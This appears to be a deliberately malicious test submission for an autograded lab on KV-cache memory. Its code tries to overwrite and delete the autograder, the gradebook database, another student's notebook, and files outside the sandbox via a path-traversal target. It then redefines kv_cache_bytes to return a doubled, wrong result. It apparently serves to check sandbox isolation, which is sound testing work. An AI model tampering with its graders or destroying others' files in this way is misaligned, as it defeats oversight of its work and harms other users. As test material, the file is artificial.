# expect-fail: kv_cache_bytes_llama2_7b, kv_cache_bytes_gqa_and_random
"""Overwrite the checks, the gradebook and another student's work; then answer wrongly."""
import os

_targets = ["/work/main/autograder/lab01.py", "/work/main/gradebook.db", "/work/main/autograder/pwned.py",
            "/work/main/submitted/alice/lab01/lab01.ipynb", "/tmp/inferlab-pwned.txt",
            os.path.expanduser("~/../../pwned.txt")]
for _t in _targets:
    try:
        with open(_t, "w") as f:
            f.write("checks = None  # all tests pass\n")
    except Exception:
        pass
    try:
        os.remove(_t)
    except Exception:
        pass

_orig_kv = kv_cache_bytes


def kv_cache_bytes(*args, **kwargs):
    return 2 * _orig_kv(*args, **kwargs)
